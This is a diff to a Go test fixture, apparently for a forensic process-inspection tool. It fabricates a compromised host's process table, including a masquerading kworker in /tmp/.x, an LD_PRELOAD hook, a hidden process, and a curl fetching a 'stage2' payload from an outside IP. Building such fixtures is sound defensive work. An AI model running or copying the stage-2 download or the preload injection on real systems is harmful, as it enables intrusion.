@@ -59,7 +59,13 @@ func fixtureProcesses() collect.ProcessTable {
 		{PID: 1234, PPID: 400, Name: "sshd", UID: u32(1000), User: "alice", StartTime: at(-2 * time.Hour), Argv: bss("sshd: alice@pts/0"), Exe: "/usr/sbin/sshd", Outcome: "ok"},
 		{PID: 1240, PPID: 1234, Name: "bash", UID: u32(1000), EUID: u32(0), User: "alice", EUser: "root", StartTime: at(-2*time.Hour + time.Second), Argv: bss("-bash"), Exe: "/usr/bin/bash", Outcome: "ok"},
 		{PID: 1300, PPID: 1240, Name: "kworker", UID: u32(0), User: "root", StartTime: at(-90 * time.Minute), Argv: trickyArgv, Exe: "/tmp/.x/kworker", ExeDeleted: true,
-			ExeHash: &collect.ExeHash{SHA256: "dededededededededededededededededededededededededededededededede", Size: 4096, Hashed: 4096}, TracerPID: 1240, Outcome: "ok"},
+			ExeHash: &collect.ExeHash{SHA256: "dededededededededededededededededededededededededededededededede", Size: 4096, Hashed: 4096}, TracerPID: 1240, Outcome: "ok",
+			// What the report skips unread (procEntry): present here so the
+			// goldens show it changes nothing.
+			FDs:        []collect.FD{{FD: 0, Target: "/dev/null"}, {FD: 3, Target: "socket:[5002]", SocketInode: 5002}, {FD: 4, Target: "/tmp/.x/\xff\"x\"<y>"}},
+			Environ:    bss("PATH=/usr/bin", "LD_PRELOAD=/tmp/.x/hook.so", "odd=\xfe{\"[,"),
+			TIDs:       []int{1300, 1302},
+			Namespaces: map[string]uint64{"net": 4026531840, "pid": 4026531836}},
 		{PID: 1301, PPID: 1300, Name: "curl", UID: u32(0), User: "root", StartTime: at(-89 * time.Minute), Argv: bss("curl", "-s", "http://198.51.100.66/stage2?a=1&b=<2>"), Exe: "/usr/bin/curl", Outcome: "ok"},
 		{PID: 6666, PPID: 1, Name: "x\xfe", UID: u32(0), User: "root", StartTime: at(-30 * time.Minute), Argv: bss("[kswapd0]"), Hidden: true, Outcome: "partial", Errors: []string{"exe: permission denied"}},
 	}
